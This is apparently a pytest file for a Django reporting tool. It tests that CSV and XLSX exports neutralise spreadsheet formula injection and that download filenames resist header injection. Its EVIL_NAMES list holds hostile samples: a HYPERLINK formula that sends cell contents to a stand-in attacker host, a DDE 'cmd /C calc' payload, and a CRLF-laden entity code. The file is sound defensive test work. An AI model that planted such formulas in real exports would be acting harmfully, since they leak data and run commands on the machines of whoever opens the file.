"""Exports and downloads survive hostile entity names and codes.

- CSV and XLSX cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR) are neutralised in
  every CSV/XLSX the tool makes; numbers stay numbers.
- Download names go through Django's header builder: even a code with a newline (which the model no longer
  accepts, but older rows could hold) cannot break an export.
"""

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from rapportering import figures as fg
from rapportering.documents import Document
from rapportering.exports import is_formula_like, to_csv, to_xlsx
from rapportering.models import Rapport
from rapportering.tables import Table
from tests.factories import EntiteitFactory, GesprekFactory, TrajectFactory

EVIL_NAMES = [
    '=HYPERLINK("https://aanvaller.example/?x="&A1;"Klik")',
    "+Agentschap Plus",
    "-Departement Min",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab Agentschap",
    "\rCR Agentschap",
]


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    rows = [[*EVIL_NAMES, 12, -3, "-4", "+2,5", "-10%", "<5", "×", "Gewone naam"]]
    [fields] = list(csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig")), delimiter=";"))
    assert fields[: len(EVIL_NAMES)] == ["'" + name for name in EVIL_NAMES]
    assert fields[len(EVIL_NAMES) :] == ["12", "-3", "-4", "+2,5", "-10%", "<5", "×", "Gewone naam"]


def workbook_of(sheet: str, row: list):
    """A workbook of one table whose one row is ``row`` (its first cell heads the row)."""
    table = Table("t", "Tabel", [f"Kolom {i}" for i in range(len(row))], [(row[0], row[1:])])
    report = fg.Report(fg.Periode.year(2025), fg.Figures(), {}, [], {}, date(2025, 12, 31))
    doc = Document("EOC", "Titel", "Onderwerp", report, [table])
    return load_workbook(io.BytesIO(to_xlsx(doc, {sheet: [table]})))


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers():
    ws = workbook_of("Blad", [*EVIL_NAMES, "12", 7, "<5", "×"]).worksheets[0]
    _header, cells = ws[next(iter(ws.tables.values())).ref]  # the defined table: header and the row
    for cell, name in zip(cells, EVIL_NAMES, strict=False):
        # the text itself, shown as text (XML reads a stored CR back as LF)
        assert cell.data_type == "s" and cell.value == name.replace("\r", "\n")
        assert cell.quotePrefix  # and editing it in Excel does not turn it into a formula
    assert [c.value for c in cells[len(EVIL_NAMES) :]] == [12, 7, "<5", "×"]
    assert [c.data_type for c in cells[len(EVIL_NAMES) :]] == ["n", "n", "s", "s"]


def test_xlsx_sheet_names_are_made_valid():
    ws = workbook_of("A/B:C[1]*?\n" + "x" * 40, ["a"]).worksheets[0]
    assert ws.title == "A-B-C-1----" + "x" * 20


def csv_fields(data: bytes) -> list[str]:
    return [f for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for f in row]


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_safe(kind: str, data: bytes, names: list[str]):
    if kind.endswith("csv"):
        fields = csv_fields(data)
        assert not [f for f in fields if is_formula_like(f)], kind
        assert any(f == "'" + n for f in fields for n in names), f"{kind}: no hostile name was exported"
    else:
        cells = xlsx_cells(data)
        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
        assert not [c.value for c in cells if is_formula_like(c.value) and not c.quotePrefix], kind
        assert any(c.value in names for c in cells), f"{kind}: no hostile name was exported"


@pytest.fixture
def hostile_entities(db):
    ents = []
    for i, name in enumerate(EVIL_NAMES):
        ent = EntiteitFactory(code=f"EVIL-{i}", naam=name)
        ents.append(ent)
        for j in range(6):
            GesprekFactory(traject=TrajectFactory(personeelslid__entiteit=ent, d0=date(2025, 2, 1 + j)))
    return ents


@pytest.mark.django_db
def test_every_export_and_generated_report_neutralises_hostile_names(
    client, ago, hostile_entities, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    client.force_login(ago)
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse("export", args=[fmt]), {"jaar": 2025})
        assert response.status_code == 200
        assert_safe(f"dashboard-export {fmt}", response.content, EVIL_NAMES)

    client.post(reverse("rapporten_aanvragen"), {"jaar": "2025"})
    reports = list(Rapport.objects.exclude(soort__endswith="_pdf"))
    assert {r.status for r in reports} == {Rapport.Status.KLAAR}
    kinds = {r.soort for r in reports}
    assert {"hoc_csv", "hoc_xlsx", "sjabloon_csv", "sjabloon_xlsx", "extract_xlsx", "eoc_xlsx"} <= kinds
    for r in reports:
        data = b"".join(client.get(reverse("rapport_download", args=[r.pk])).streaming_content)
        ext = r.soort.rsplit("_", 1)[1]
        if r.soort in ("extract_xlsx", "eoc_xlsx"):
            # these name no entity in a cell (EOC: the entity is the sheet); still no formula anywhere
            assert not [c for c in xlsx_cells(data) if c.data_type == "f"], r.soort
        else:
            assert_safe(r.soort, data, EVIL_NAMES)
        assert ext in ("csv", "xlsx")


@pytest.mark.django_db
def test_a_code_with_a_newline_breaks_no_export_or_download(client, ago, settings, tmp_path):
    """Rows from before the code rule: drop the constraint inside this test's transaction to plant one."""
    settings.MEDIA_ROOT = tmp_path
    with connection.cursor() as cur:
        cur.execute("ALTER TABLE entiteiten_entiteit DROP CONSTRAINT entiteit_code_tekens")
    ent = EntiteitFactory(code='AB\r\nC"/;x', naam="Agentschap Nieuwe Lijn")
    TrajectFactory(personeelslid__entiteit=ent, d0=date(2025, 2, 1))
    client.force_login(ago)
    for fmt in ("csv", "xlsx", "pdf"):
        response = client.get(reverse("export", args=[fmt]), {"jaar": 2025, "entiteit": ent.pk})
        assert response.status_code == 200, fmt
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment; filename") and "\n" not in disposition, disposition
        assert "\r" not in disposition and "-eoc-AB" in disposition
    client.post(reverse("rapporten_aanvragen"), {"jaar": "2025"})
    eoc = Rapport.objects.filter(entiteit=ent)
    assert eoc.count() == 2 and {r.status for r in eoc} == {Rapport.Status.KLAAR}
    for r in eoc:
        response = client.get(reverse("rapport_download", args=[r.pk]))
        assert response.status_code == 200
        assert "\n" not in response["Content-Disposition"] and "\r" not in response["Content-Disposition"]
        assert b"".join(response.streaming_content)


def test_no_download_header_is_built_by_hand():
    """Every file the tool serves names itself through Django (FileResponse(filename=...) or
    content_disposition_header), which quotes or encodes whatever a name holds."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for app in ("entiteiten", "trajecten", "rapportering", "reintegratie"):
        for path in (root / app).rglob("*.py"):
            text = path.read_text()
            by_hand = 'filename="' in text or (
                "Content-Disposition" in text and "content_disposition_header(" not in text
            )
            if by_hand:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
